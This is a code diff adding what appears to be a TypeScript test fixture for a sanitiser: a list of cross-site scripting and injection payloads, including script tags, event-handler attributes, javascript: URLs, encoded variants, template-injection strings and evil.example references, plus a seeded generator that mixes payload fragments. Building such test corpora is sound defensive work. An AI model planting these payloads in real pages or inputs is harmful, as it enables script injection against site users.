@@ -1,0 +1,118 @@
+/** Strings that have been scripts, markup or worse in some page before. */
+
+/** The known ones. */
+export const payloads: readonly string[] = [
+  "<script>alert(1)</script>",
+  '<img src=x onerror="alert(1)">',
+  "<svg/onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "<body onload=alert(1)>",
+  "<a href=javascript:alert(1)>click</a>",
+  "<details open ontoggle=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<video><source onerror=alert(1)>",
+  "<audio src=x onerror=alert(1)>",
+  "<marquee onstart=alert(1)>",
+  "<object data=javascript:alert(1)>",
+  "<embed src=javascript:alert(1)>",
+  "<form action=javascript:alert(1)><button>go</button></form>",
+  "<math href=javascript:alert(1)>click</math>",
+  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+  "<base href=https://evil.example/>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<style>*{background:url(https://evil.example)}</style>",
+  "<template><script>alert(1)</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<textarea></textarea><img src=x onerror=alert(1)>",
+  "</title><script>alert(1)</script>",
+  "</p></li></ol><script>alert(1)</script>",
+  "<!--<img src=--><img src=x onerror=alert(1)>",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<<script>alert(1)//<</script>",
+  "<img src=`x` onerror=`alert(1)`>",
+  "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+  "<x onclick=alert(1)>click</x>",
+  "<button popovertarget=x>go</button><x onbeforetoggle=alert(1) popover id=x>",
+  "<dialog open onclose=alert(1)><form method=dialog><button>go",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "\\x3cscript\\x3ealert(1)",
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "java\tscript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "vbscript:msgbox(1)",
+  "blob:https://example.org/x",
+  "https://example.org/'onmouseover='alert(1)",
+  'https://example.org/"onmouseover="alert(1)',
+  "https://example.org/<img src=x onerror=alert(1)>",
+  "https://example.org\\@evil.example",
+  "https://user@evil.example/",
+  "http://example.org/#javascript:alert(1)",
+  "https://exa\u202emple.org/",
+  "{{constructor.constructor('alert(1)')()}}",
+  "\u0024{alert(1)}",
+  "#{7*7} <%= 7*7 %> {{7*7}}",
+  "';alert(1)//",
+  '";alert(1)//',
+  "`;alert(1)//",
+  "__proto__",
+  "constructor",
+  "[object Object]",
+  "0",
+  "null",
+  "\u2066\u2067 turned around \u202e drawkcab",
+  "Z̸̡͔a̴͓͐l̶̻͝g̷̢̔o̸̰͝",
+];
+
+const PARTS = [
+  "<",
+  ">",
+  "</",
+  "/>",
+  '"',
+  "'",
+  "`",
+  "&",
+  "&#x3c;",
+  "script",
+  "img src=x",
+  "onerror=",
+  "alert(1)",
+  "javascript:",
+  "https://",
+  "example.org",
+  "svg",
+  "style",
+  "=",
+  " ",
+  "//",
+  "\\",
+  "é",
+  "😀",
+  "\u202e",
+  "]]>",
+  "<!--",
+  "-->",
+  "{{",
+  "}}",
+];
+
+/** As many again, put together by chance; the same ones for the same seed. */
+export function generatedPayloads(count: number, seed = 1): string[] {
+  let state = seed;
+  // A linear congruential generator: chance that can be repeated.
+  const below = (limit: number) => {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
+    return Math.floor((state / 2 ** 32) * limit);
+  };
+  return Array.from({ length: count }, (_, i) => {
+    const parts = Array.from({ length: 3 + below(12) }, () => PARTS[below(PARTS.length)]);
+    return `${i} ${parts.join("")}`.trim();
+  });
+}
